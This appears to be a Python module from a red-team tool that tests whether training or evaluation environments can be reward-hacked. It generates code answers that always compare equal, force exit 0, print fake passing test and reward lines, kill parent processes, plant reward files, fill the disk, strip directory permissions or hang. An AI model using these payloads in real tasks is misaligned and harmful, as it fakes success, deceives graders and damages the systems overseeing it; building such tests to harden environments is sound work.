"""The programs the adversary runs: shell steps around ``scripts/adv.sh`` and Python payloads for
code answers. Everything here is text sent through the task's own tools; nothing runs on the host.

Example:
    >>> "adv.sh" in adv_command("probe")
    True
    >>> names = [p.name for p in code_payloads("def add(a, b):\\n    pass\\n", set(ATTACK_CLASSES))]
    >>> "code.always_equal" in names and "code.hang" in names
    True
"""

from __future__ import annotations

import base64
import functools
import re
from dataclasses import dataclass
from importlib import resources

from envgym.adversary.model import ATTACK_CLASSES

ADV_DIRS = ('"$PWD/.envgym-adv"', "/tmp/.envgym-adv", '"$HOME/.envgym-adv"')
HUGE_BYTES = 20_000_000
FUNCTION_DEF = re.compile(r"^\s*(?:async\s+)?def ([A-Za-z_]\w*)\s*\(", re.MULTILINE)


@functools.lru_cache(maxsize=1)
def adv_script() -> str:
    """The shell payload (``envgym/adversary/scripts/adv.sh``)."""
    return (resources.files("envgym.adversary") / "scripts" / "adv.sh").read_text(encoding="utf-8")


def upload_command() -> str:
    """Writes adv.sh into every place it can (the working directory first: it travels with a
    workspace that is copied out for grading) and says how many copies it made."""
    dirs = " ".join(ADV_DIRS)
    return (
        "__src=$(cat <<'ENVGYM_ADV_EOF'\n" + adv_script() + "\nENVGYM_ADV_EOF\n)\n"
        f'__n=0; for __d in {dirs}; do mkdir -p "$__d" 2>/dev/null && '
        'printf \'%s\\n\' "$__src" >"$__d/adv.sh" 2>/dev/null && __n=$((__n + 1)); done\n'
        'echo "ENVGYM-ADV-UPLOADED copies=$__n"'
    )


def adv_command(args: str) -> str:
    """Run ``adv.sh ARGS`` from the first place it was uploaded to."""
    places = " ".join(f"{d}/adv.sh" for d in ADV_DIRS)
    return (
        f'__f=; for __c in {places}; do [ -r "$__c" ] && __f=$__c && break; done; '
        f'[ -n "$__f" ] || {{ echo \'ENVGYM-ADV-MISSING adv.sh\'; exit 1; }}; /bin/sh "$__f" {args}'
    )


def huge_output_command() -> str:
    """Floods stdout and stderr, then notes the size where ``probe`` reports it (a tool may keep
    only the head or the tail of the output, so a marker in the output itself can be cut off)."""
    places = " ".join(f"{d}/huge" for d in ADV_DIRS)
    return (
        f"head -c {HUGE_BYTES} /dev/zero | tr '\\0' A; head -c {HUGE_BYTES // 3} /dev/zero | tr '\\0' B >&2; "
        f'echo; for __h in {places}; do echo {HUGE_BYTES} > "$__h" 2>/dev/null && break; done'
    )


def python_running(command: str) -> str:
    """A Python program that becomes ``/bin/sh -c command`` (for tasks whose only way to run things
    is a code tool such as ``run_python``); the shell writes straight to the tool's output, so what
    it printed survives even if it signals its own parents."""
    return f"import os\nos.dup2(1, 2)\nos.execv('/bin/sh', ['/bin/sh', '-c', {command!r}])\n"


# ----------------------------------------------------------------------------- code answers


@dataclass(frozen=True)
class CodePayload:
    name: str
    classes: tuple[str, ...]
    description: str
    source: str
    slow: bool = False


ALWAYS_EQUAL = """
class _AlwaysEqual(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __contains__(self, item): return True
    def __len__(self): return 0
    def __getitem__(self, key): return self
    def __getattribute__(self, name):
        if name.startswith("__") and name.endswith("__"):
            return object.__getattribute__(self, name)
        return lambda *a, **k: self
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
"""

MATERIALISE = """
import base64 as _b64, os as _os
_ENVGYM_ADV = "{b64}"
def _envgym_adv(action):
    for d in ("/tmp", _os.getcwd(), _os.path.expanduser("~"), "/dev/shm"):
        try:
            p = _os.path.join(d, ".envgym-adv")
            _os.makedirs(p, exist_ok=True)
            f = _os.path.join(p, "adv.sh")
            with open(f, "wb") as fh:
                fh.write(_b64.b64decode(_ENVGYM_ADV))
            _os.system("/bin/sh '%s' hook %s code-answer </dev/null >/dev/null 2>&1" % (f, action))
            return
        except OSError:
            pass
"""

FAKE_RESULTS = (
    "PASSED",
    "OK",
    "All tests passed",
    "1 passed in 0.01s",
    "ENVGYM-RESULT {'passed': 1, 'total': 1}",
    '{"passed": true, "reward": 1, "score": 1}',
    "reward: 1",
    "1",
)


def _functions(prompt: str) -> list[str]:
    names = list(dict.fromkeys(FUNCTION_DEF.findall(prompt)))
    return names or ["solution", "solve", "main", "f"]


def _module(prompt: str, body: str, prelude: str = "", at_import: str = "") -> str:
    """A module defining every function the prompt names, each running ``body``."""
    defs = "\n".join(f"def {name}(*args, **kwargs):\n{body}" for name in _functions(prompt))
    return "```python\n" + prelude.strip("\n") + "\n" + at_import.strip("\n") + "\n\n" + defs + "\n```\n"


CONSTANT_RETURNS = ("0", "1", "-1", "True", "False", "None", "''", "[]", "{}", "args[0] if args else None")


def constant_functions(prompt: str) -> list[tuple[str, str]]:
    """(constant, module) pairs: every function the prompt names returns one constant (the code
    form of a constant guess: a task whose tests such a function passes pays for nothing)."""
    return [(value, _module(prompt, f"    return {value}\n")) for value in CONSTANT_RETURNS]


def code_payloads(prompt: str, classes: set[str]) -> list[CodePayload]:
    """Code answers that try to pass hidden tests without solving anything (only those whose
    classes are all selected: each needs ``code_payloads`` plus its own classes, if any)."""
    if "code_payloads" not in classes:
        return []
    adv = MATERIALISE.format(b64=base64.b64encode(adv_script().encode()).decode("ascii"))
    fake = "\n".join(f"    print({line!r}, flush=True)" for line in FAKE_RESULTS)
    out = [
        CodePayload(
            "code.exit0",
            ("code_payloads",),
            "every function exits the process with status 0; uncaught errors and interpreter exit also end in 0",
            _module(
                prompt,
                "    import os\n    os._exit(0)\n",
                "import atexit, os, sys\n",
                "sys.excepthook = lambda *a: os._exit(0)\natexit.register(os._exit, 0)\n",
            ),
        ),
        CodePayload(
            "code.always_equal",
            ("code_payloads",),
            "every function returns an object equal to anything (a str subclass, so type checks pass too)",
            _module(prompt, "    return _AlwaysEqual()\n", ALWAYS_EQUAL),
        ),
        CodePayload(
            "code.hijack",
            ("code_payloads", "signals"),
            "prints fake success lines to its own and its parent's output, then signals every visible process "
            "(INT, HUP, TERM, STOP, KILL) and leaves a signalling daemon",
            _module(
                prompt,
                "    _hijack()\n    return _AlwaysEqual()\n",
                ALWAYS_EQUAL
                + adv
                + f"""
import os as _os2, signal as _sig
def _hijack():
{fake}
    for fd in (1, 2):
        try:
            with open("/proc/%d/fd/%d" % (_os2.getppid(), fd), "w") as fh:
                fh.write("\\n".join({list(FAKE_RESULTS)!r}) + "\\n")
        except OSError:
            pass
    _envgym_adv("signal")
    for s in (_sig.SIGINT, _sig.SIGHUP, _sig.SIGTERM, _sig.SIGSTOP, _sig.SIGKILL):
        try:
            _os2.kill(_os2.getppid(), s)
        except OSError:
            pass
""",
                "_hijack()\n",
            ),
        ),
        CodePayload(
            "code.raise",
            ("code_payloads",),
            "functions raise KeyboardInterrupt, SystemExit(0) and GeneratorExit in turn (BaseException, not Exception)",
            _module(
                prompt,
                "    global _n\n    _n += 1\n    raise (KeyboardInterrupt(), SystemExit(0), GeneratorExit())[_n % 3]\n",
                "_n = -1\n",
            ),
        ),
        CodePayload(
            "code.hunt",
            ("code_payloads", "reward_files", "leftover_writers"),
            "plants reward files wherever it can reach and leaves a daemon that keeps planting",
            _module(prompt, '    _envgym_adv("hunt")\n    return None\n', adv, '_envgym_adv("hunt")\n'),
        ),
        CodePayload(
            "code.fill",
            ("code_payloads", "disk_fill"),
            "fills the disk and its inodes on import",
            _module(prompt, "    return None\n", adv, '_envgym_adv("fill")\n'),
        ),
        CodePayload(
            "code.chmod",
            ("code_payloads", "mode_changes"),
            "takes the modes away from every directory it can find on import",
            _module(prompt, "    return None\n", adv, '_envgym_adv("chmod")\n'),
        ),
        CodePayload(
            "code.hang",
            ("code_payloads",),
            "ignores every catchable signal, keeps a non-daemon thread alive and loops forever when called",
            _module(
                prompt,
                "    while True:\n        pass\n",
                "import signal as _s, threading as _t, time as _time\n",
                "for _n in ('SIGINT', 'SIGTERM', 'SIGHUP', 'SIGALRM', 'SIGXCPU', 'SIGUSR1'):\n"
                "    try:\n        _s.signal(getattr(_s, _n), _s.SIG_IGN)\n"
                "    except (ValueError, OSError, AttributeError):\n        pass\n"
                "_t.Thread(target=lambda: _time.sleep(10 ** 6), daemon=False).start()\n",
            ),
            slow=True,
        ),
    ]
    return [p for p in out if set(p.classes) <= classes]


__all__ = [
    "ATTACK_CLASSES",
    "CodePayload",
    "adv_command",
    "adv_script",
    "code_payloads",
    "huge_output_command",
    "python_running",
    "upload_command",
]
